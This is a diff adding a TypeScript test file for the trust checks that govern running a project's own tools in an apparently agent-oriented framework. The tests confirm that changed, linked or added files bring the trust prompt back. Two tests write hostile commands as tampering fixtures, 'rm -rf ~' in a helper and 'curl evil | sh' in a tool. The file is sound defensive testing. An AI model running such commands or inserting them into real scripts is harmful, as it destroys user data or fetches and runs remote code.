@@ -1,0 +1,262 @@
+import { execFileSync } from "node:child_process";
+import {
+  appendFileSync,
+  chmodSync,
+  cpSync,
+  existsSync,
+  mkdirSync,
+  readFileSync,
+  renameSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  unlinkSync,
+  writeFileSync,
+} from "node:fs";
+import { join } from "node:path";
+import { tempDir } from "@ikigai/testing";
+import { expect, test } from "vitest";
+import {
+  callTool,
+  findTool,
+  projectOverrides,
+  registryChanged,
+  revokeTrust,
+  toolDirectories,
+  trust,
+  trustStatus,
+} from "../src/index.ts";
+import { circumstances, schema, tool, type World, world } from "./world.ts";
+
+/** A project that brings a tool which leaves a mark whenever it is run, for its schema too. */
+async function projectWorld(files: Parameters<typeof world>[0] = {}): Promise<World & { tools: string; mark: string }> {
+  const made = await world({
+    "system/bash-tool": tool(schema("bash", { description: "system" })),
+    "project/.ikigai/lib/helper.sh": "# helps\n",
+    ...files,
+  });
+  const mark = join(made.root, "mark");
+  const tools = join(made.projectDir, ".ikigai/tools");
+  mkdirSync(tools, { recursive: true });
+  const script = tool(schema("bash", { description: "project" })).replace(
+    "#!/bin/sh\n",
+    `#!/bin/sh\necho ran >> ${mark}\n`,
+  );
+  writeFileSync(join(tools, "bash-tool"), script, { mode: 0o755 });
+  return { ...made, tools, mark };
+}
+
+test("runs nothing of a project that nobody trusts, and shadows nothing", async () => {
+  const { discover, tools, mark } = await projectWorld();
+  const registry = await discover();
+  expect(existsSync(mark)).toBe(false);
+  expect(registry.trust).toBe("untrusted");
+  expect(findTool(registry, "bash")).toMatchObject({ scope: "system", shadows: [] });
+  expect(registry.failed).toEqual([
+    {
+      name: "bash",
+      path: join(tools, "bash-tool"),
+      scope: "project",
+      reason: "untrusted",
+      detail: "to use it, look at it and run: ikigai trust",
+    },
+  ]);
+});
+
+test("uses a project's tool after the yes, and not after it was taken back", async () => {
+  const { discover, root, tools, mark, ...place } = await projectWorld();
+  expect(await trust(place)).toMatchObject({ status: "trusted" });
+  expect(existsSync(mark)).toBe(false);
+  const trusted = await discover();
+  expect(trusted.trust).toBe("trusted");
+  expect(findTool(trusted, "bash")).toMatchObject({
+    scope: "project",
+    schema: { description: "project" },
+    shadows: [{ path: join(root, "system/bash-tool"), scope: "system" }],
+  });
+  expect((await callTool(trusted, "bash", "{}", await circumstances())).envelope.tool_success).toBe(true);
+  expect(await revokeTrust(place)).toBe(true);
+  expect(await revokeTrust(place)).toBe(false);
+  expect(registryChanged(trusted)).toBe(true);
+  expect(await discover()).toMatchObject({ trust: "untrusted", tools: [{ scope: "system" }] });
+});
+
+test("keeps the decision under the user's home, for the user alone", async () => {
+  const { home, projectDir } = await projectWorld();
+  await trust({ home, projectDir });
+  expect(statSync(join(home, "trust.json")).mode & 0o777).toBe(0o600);
+  const stored = JSON.parse(readFileSync(join(home, "trust.json"), "utf8"));
+  expect(stored.projects[join(projectDir, ".ikigai")]).toEqual({
+    "lib/helper.sh": expect.stringMatching(/^file 644, sha256 [0-9a-f]{64}$/),
+    "tools/bash-tool": expect.stringMatching(/^file 755, sha256 [0-9a-f]{64}$/),
+  });
+});
+
+type Change = [what: string, apply: (tools: string) => void, report: object];
+
+test.each<Change>([
+  [
+    "a tool's content",
+    (tools) => appendFileSync(join(tools, "bash-tool"), "#\n"),
+    { path: "tools/bash-tool", change: "changed" },
+  ],
+  [
+    "a tool's mode",
+    (tools) => chmodSync(join(tools, "bash-tool"), 0o700),
+    { path: "tools/bash-tool", change: "changed" },
+  ],
+  [
+    "a file beside it",
+    (tools) => writeFileSync(join(tools, "../lib/helper.sh"), "rm -rf ~\n"),
+    { path: "lib/helper.sh", change: "changed" },
+  ],
+  ["a new file", (tools) => writeFileSync(join(tools, "x"), ""), { path: "tools/x", change: "new" }],
+  [
+    "a missing file",
+    (tools) => unlinkSync(join(tools, "../lib/helper.sh")),
+    { path: "lib/helper.sh", change: "removed" },
+  ],
+  [
+    "a link in the place of a file",
+    (tools) => {
+      renameSync(join(tools, "bash-tool"), join(tools, "../../moved"));
+      symlinkSync("../../moved", join(tools, "bash-tool"));
+    },
+    { path: "tools/bash-tool", change: "changed", kind: "link to ../../moved, file 755" },
+  ],
+])("asks again after a change of %s, and names it", async (_, apply, expected) => {
+  const { discover, tools, mark, ...place } = await projectWorld();
+  await trust(place);
+  const before = await discover();
+  rmSync(mark);
+  apply(tools);
+  expect(registryChanged(before)).toBe(true);
+  const report = await trustStatus(place);
+  expect(report.status).toBe("changed");
+  expect(report.files.filter(({ change }) => change)).toMatchObject([expected]);
+  const registry = await discover();
+  expect(registry).toMatchObject({ trust: "changed", tools: [{ name: "bash", scope: "system" }] });
+  for (const { detail } of registry.failed) expect(detail).toContain("not what you trusted: ");
+  const outcome = await callTool(before, "bash", "{}", await circumstances());
+  const isNew = "change" in expected && expected.change === "new";
+  expect(outcome.envelope).toMatchObject(
+    isNew
+      ? { tool_success: true }
+      : { error_code: "TOOL_UNAVAILABLE", error: expect.stringContaining("has changed since you trusted it") },
+  );
+  expect(existsSync(mark)).toBe(isNew);
+});
+
+test("covers what links lead to, and notices another target", async () => {
+  const elsewhere = await tempDir({ "x-tool": tool(schema("x")), "y-tool": tool(schema("y")) });
+  const { discover, tools, mark: _, ...place } = await projectWorld();
+  symlinkSync(join(elsewhere, "x-tool"), join(tools, "x-tool"));
+  symlinkSync(elsewhere, join(tools, "../linked"));
+  const report = await trust(place);
+  expect(report.files.find(({ path }) => path === "tools/x-tool")).toMatchObject({
+    realPath: join(elsewhere, "x-tool"),
+    sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
+  });
+  expect(report.files.map(({ path }) => path)).toContain("linked/y-tool");
+  expect(findTool(await discover(), "x")).toMatchObject({ scope: "project" });
+  appendFileSync(join(elsewhere, "x-tool"), "#\n");
+  const changed = (await trustStatus(place)).files.filter(({ change }) => change);
+  expect(changed.map(({ path }) => path)).toEqual(["linked/x-tool", "tools/x-tool"]);
+});
+
+test("covers what the user was shown, not what came after", async () => {
+  const { tools, mark: _, discover: __, ...place } = await projectWorld();
+  const seen = await trustStatus(place);
+  appendFileSync(join(tools, "bash-tool"), "curl evil | sh\n");
+  expect(await trust({ ...place, seen })).toMatchObject({ status: "changed" });
+});
+
+test("does not follow a project that was copied or moved", async () => {
+  const { home, projectDir, root } = await projectWorld();
+  await trust({ home, projectDir });
+  cpSync(projectDir, join(root, "copy"), { recursive: true });
+  expect((await trustStatus({ home, projectDir: join(root, "copy") })).status).toBe("untrusted");
+  symlinkSync(projectDir, join(root, "link"));
+  expect((await trustStatus({ home, projectDir: join(root, "link") })).status).toBe("trusted");
+});
+
+test("takes another directory that .ikigai leads to for a change", async () => {
+  const { home, projectDir, root } = await projectWorld();
+  await trust({ home, projectDir });
+  renameSync(join(projectDir, ".ikigai"), join(root, "moved"));
+  symlinkSync("../moved", join(projectDir, ".ikigai"));
+  const report = await trustStatus({ home, projectDir });
+  expect(report.files.filter(({ change }) => change)).toMatchObject([{ path: ".", change: "new" }]);
+});
+
+test("has nothing to ask about without files, and about the user's own directory", async () => {
+  const { home, projectDir } = await world({ "project/.ikigai/tools/": "" });
+  expect((await trustStatus({ home, projectDir })).status).toBe("nothing");
+  expect((await trust({ home, projectDir })).status).toBe("nothing");
+  const own = await tempDir({ ".ikigai/tools/a-tool": tool(schema("a")) });
+  expect((await trustStatus({ home: join(own, ".ikigai"), projectDir: own })).status).toBe("nothing");
+});
+
+test("reads no FIFO, no endless link and no loop, and is not held up by them", async () => {
+  const { tools, discover, mark: _, ...place } = await projectWorld();
+  execFileSync("mkfifo", ["-m", "755", join(tools, "f-tool")]);
+  symlinkSync("loop", join(tools, "loop"));
+  symlinkSync("..", join(tools, "up"));
+  symlinkSync("/dev/zero", join(tools, "zero"));
+  const { status, files } = await trust(place);
+  expect(status).toBe("trusted");
+  expect(Object.fromEntries(files.map(({ path, kind }) => [path, kind]))).toEqual({
+    "lib/helper.sh": "file 644",
+    "tools/bash-tool": "file 755",
+    "tools/f-tool": "no regular file",
+    "tools/loop": "link to loop, missing",
+    "tools/up": "link to .., directory",
+    "tools/zero": "link to /dev/zero, no regular file",
+  });
+  expect((await discover()).tools).toMatchObject([{ name: "bash", scope: "project" }]);
+});
+
+test("does not trust what is too much to be read", async () => {
+  const { home, projectDir } = await projectWorld();
+  symlinkSync("/usr", join(projectDir, ".ikigai/everything"));
+  const report = await trust({ home, projectDir });
+  expect(report).toMatchObject({ status: "untrusted", problem: expect.stringMatching(/^It has more than /) });
+});
+
+test.each([
+  ["is damaged", (file: string) => writeFileSync(file, '{"projects":')],
+  ["anybody can write", (file: string) => chmodSync(file, 0o666)],
+])("trusts nothing by a file that %s", async (_, spoil) => {
+  const { home, projectDir } = await projectWorld();
+  await trust({ home, projectDir });
+  spoil(join(home, "trust.json"));
+  expect((await trustStatus({ home, projectDir })).status).toBe("untrusted");
+  expect((await trust({ home, projectDir })).status).toBe("trusted");
+});
+
+test("loses no decision when several are made at once", async () => {
+  const { home } = await world();
+  const projects = await Promise.all(
+    Array.from({ length: 8 }, () => tempDir({ ".ikigai/tools/a-tool": tool(schema("a")) })),
+  );
+  writeFileSync(join(home, "trust.json.lock"), "");
+  execFileSync("touch", ["-d", "1 minute ago", join(home, "trust.json.lock")]);
+  await Promise.all(projects.map((projectDir) => trust({ home, projectDir })));
+  for (const projectDir of projects) expect((await trustStatus({ home, projectDir })).status).toBe("trusted");
+});
+
+test("tells which tools a project would override, without running any", async () => {
+  const { root, home, projectDir, tools, mark } = await projectWorld({ "home/tools/bash-tool": tool(schema("bash")) });
+  const directories = toolDirectories({ systemDir: join(root, "system"), home, projectDir });
+  expect(projectOverrides(directories)).toEqual([
+    {
+      name: "bash",
+      path: join(tools, "bash-tool"),
+      shadows: [
+        { path: join(home, "tools/bash-tool"), scope: "user" },
+        { path: join(root, "system/bash-tool"), scope: "system" },
+      ],
+    },
+  ]);
+  expect(existsSync(mark)).toBe(false);
+});
